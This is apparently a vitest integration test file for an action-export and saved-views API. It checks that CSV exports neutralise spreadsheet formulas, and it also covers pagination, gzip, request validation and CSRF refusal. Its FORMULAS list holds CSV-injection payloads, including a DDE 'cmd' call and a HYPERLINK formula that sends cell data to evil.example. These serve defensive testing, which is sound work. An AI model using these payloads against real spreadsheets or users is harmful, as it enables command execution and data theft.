import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectDatabase, type Database } from '#persistence';
import type { Client, GraphError, NativeAction } from '../support/client.js';
import { ConsoleClient } from '../support/console-client.js';
import { TENANT_A, TENANT_B, newAction } from '../support/database.js';
import { PASSWORD, makeOperator } from '../support/operators.js';
import { Stack } from '../support/stack.js';

const EXPORT = '/api/v1/actions/export';

let stack: Stack;
let database: Database;

beforeAll(async () => {
  stack = await Stack.start();
  database = await connectDatabase(stack.mongodbUri, { appName: 'riposte-test' });
});
afterAll(async () => {
  await database.close();
  await stack.stop();
});

/** What a spreadsheet would take for a formula: https://owasp.org/www-community/attacks/CSV_Injection. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];
const PLAIN = ['a;=1+1', 'a,b', 'say "yes"', 'two\r\nlines', ' =1', "it's", '', 'ok'];

/** Fields of RFC 4180, by rows. */
function rowsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  expect(rows.pop()).toEqual(['']);
  return rows;
}

async function csvOf(client: Client, query = ''): Promise<readonly Readonly<Record<string, string>>[]> {
  const { status, body } = await client.request<string>('GET', `${EXPORT}?${query}`);
  expect(status).toBe(200);
  const [heads = [], ...rows] = rowsOf(body);
  return rows.map((row) => {
    expect(row).toHaveLength(heads.length);
    return Object.fromEntries(row.map((field, index) => [heads[index] ?? '', field]));
  });
}

async function linesOf(client: Client, query: string): Promise<readonly NativeAction[]> {
  const response = await fetch(`${stack.baseUrl}${EXPORT}?format=ndjson&${query}`, {
    headers: { authorization: `Bearer ${client.token}` },
  });
  const lines = (await response.text()).split('\n');
  expect(lines.pop()).toBe('');
  return lines.map((line) => JSON.parse(line) as NativeAction);
}

describe('an export', () => {
  it('is CSV that a spreadsheet takes for text alone, whatever a caller wrote', async () => {
    const tenantId = randomUUID();
    const caller = { tenantId, appId: randomUUID(), user: '=user' };
    const texts = [...FORMULAS, ...PLAIN];
    for (const text of texts) {
      await database.actions.create(
        newAction({
          caller,
          // Nobody carries them out.
          instance: 'nowhere',
          name: `=${text}`,
          actionReason: text,
          clientContext: text,
          parameters: [
            { name: text, value: text },
            { name: 'secret', value: null },
          ],
          vendorInformation: { vendor: text, provider: text, providerVersion: text, subProvider: text },
        }),
      );
    }
    const rows = await csvOf(await stack.client({ tenant: tenantId }), 'orderby=createdDateTime');
    expect(rows).toHaveLength(texts.length);
    for (const [index, text] of texts.entries()) {
      const row = rows[index] ?? {};
      for (const field of Object.values(row)) expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      const shown = FORMULAS.includes(text) ? `'${text}` : text;
      expect(row).toMatchObject({
        actionReason: shown,
        clientContext: shown,
        subProvider: shown,
        user: "'=user",
      });
      expect(JSON.parse(row['parameters'] ?? '')).toEqual([
        { name: text, value: text },
        { name: 'secret', value: null },
      ]);
    }
  });

  it('holds all actions of its filter, over many pages, in its order', async () => {
    const tenantId = randomUUID();
    const caller = { tenantId, appId: randomUUID(), user: null };
    // More than fit on a page.
    const made = await Promise.all(
      Array.from({ length: 1200 }, (_, index) =>
        database.actions.create(
          newAction({ caller, instance: 'nowhere', name: index % 2 === 0 ? 'Even' : 'Odd' }),
        ),
      ),
    );
    const ids = made.map(({ id }) => id);
    const client = await stack.client({ tenant: tenantId });
    const exported = (await csvOf(client)).map(({ id }) => id);
    expect(exported).toHaveLength(ids.length);
    expect(new Set(exported)).toEqual(new Set(ids));
    const lines = await linesOf(
      client,
      `orderby=createdDateTime,id&filter=${encodeURIComponent("name eq 'Odd'")}`,
    );
    expect(lines).toHaveLength(600);
    expect(lines.every(({ name, phase }) => name === 'Odd' && phase === 'queued')).toBe(true);
    const order = lines.map(({ createdDateTime, id }) => `${String(createdDateTime)} ${id}`);
    expect(order).toEqual(order.toSorted());
    expect(await linesOf(client, 'phase=done')).toEqual([]);
  });

  it('is compressed for who takes that, and a file to be kept', async () => {
    const client = await stack.client({ tenant: randomUUID() });
    const answer = async (encoding: string) => {
      const response = await fetch(`${stack.baseUrl}${EXPORT}?format=csv`, {
        headers: { authorization: `Bearer ${client.token}`, 'accept-encoding': encoding },
      });
      return { headers: response.headers, text: await response.text() };
    };
    const [packed, plain] = [await answer('gzip'), await answer('gzip;q=0, identity')];
    expect(packed.headers.get('content-encoding')).toBe('gzip');
    expect(plain.headers.get('content-encoding')).toBeNull();
    expect(packed.text).toBe(plain.text);
    expect(plain.text).toMatch(/^"id","name","status",/);
    expect(plain.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(plain.headers.get('content-disposition')).toBe('attachment; filename="actions.csv"');
  });

  it.each(['format=xlsx', 'filter=nope', 'top=1', 'orderby=parameters', 'phase=x'])(
    'refuses %s with a 400',
    async (query) => {
      const client = await stack.client();
      const answer = await client.request<GraphError>('GET', `${EXPORT}?${query}`);
      expect([answer.status, answer.body.error.code]).toEqual([400, 'invalidRequest']);
    },
  );
});

describe('the views of a person', () => {
  const signedIn = async (name: string): Promise<ConsoleClient> => {
    const person = new ConsoleClient(stack.baseUrl);
    expect((await person.signIn(name, PASSWORD)).status).toBe(200);
    return person;
  };
  const views = (person: ConsoleClient) => person.send('GET', '/api/v1/views');
  const put = (person: ConsoleClient, value: unknown) =>
    person.send<GraphError>('PUT', '/api/v1/views', { body: { value } });

  let walt: ConsoleClient;

  beforeAll(async () => {
    const grants = [TENANT_A, TENANT_B].map((tenantId) => ({ tenantId, role: 'Viewer' as const }));
    await makeOperator(database, 'vera', { grants });
    await makeOperator(database, 'walt', { role: 'Operator' });
    walt = await signedIn('walt');
  });

  it('are their own in each tenant, and replaced as a whole', async () => {
    const vera = await signedIn('vera');
    expect((await views(vera)).body).toEqual({ value: [] });
    const failed = { name: '<b>Failed</b>', query: "?filter=status eq 'Failed'" };
    const slow = { name: '$slow', query: '' };
    expect(await put(vera, [failed, slow])).toMatchObject({ status: 200, body: { value: [failed, slow] } });
    expect((await views(vera)).body).toEqual({ value: [failed, slow] });
    expect((await views(walt)).body).toEqual({ value: [] });
    await put(vera, [slow]);
    expect((await views(vera)).body).toEqual({ value: [slow] });
    await vera.send('PUT', '/api/v1/session/tenant', { body: { tenantId: TENANT_B } });
    await vera.session();
    expect((await views(vera)).body).toEqual({ value: [] });
  });

  it.each([
    ['more than 50', Array.from({ length: 51 }, (_, index) => ({ name: `${index}`, query: '' }))],
    [
      'the same name twice',
      [
        { name: 'a', query: '' },
        { name: 'a', query: 'x' },
      ],
    ],
    ['one without a name', [{ name: ' ', query: '' }]],
    ['one without a query', [{ name: 'a' }]],
    ['what is no list', 'x'],
  ])('refuse %s with a 400', async (_what, value) => {
    const answer = await put(walt, value);
    expect([answer.status, answer.body.error.code]).toEqual([400, 'invalidRequest']);
  });

  it('are for people: no access token is enough, and no page of others may change them', async () => {
    const client = await stack.client();
    expect((await client.request('GET', '/api/v1/views')).status).toBe(403);
    const forged = await walt.send('PUT', '/api/v1/views', {
      body: { value: [] },
      headers: { 'x-csrf-token': undefined },
    });
    expect(forged.status).toBe(403);
  });
});

describe('the latency of a provider', () => {
  it("is that of the tenant's own actions of the last hour", async () => {
    const tenant = randomUUID();
    const client = await stack.client({ tenant });
    const latency = async (who: Client) => {
      const { body } = await who.request<{ latency: { p50: number; p99: number } | null }>(
        'GET',
        '/api/v1/providers/mock',
      );
      return body.latency;
    };
    expect(await latency(client)).toBeNull();
    await client.ended(await client.act('BlockIp', { IP: '203.0.113.30' }));
    const told = await latency(client);
    expect(told?.p50).toBeGreaterThan(0);
    expect(told?.p99).toBeGreaterThanOrEqual(told?.p50 ?? 0);
    expect(await latency(await stack.client({ tenant: randomUUID() }))).toBeNull();
  });
});
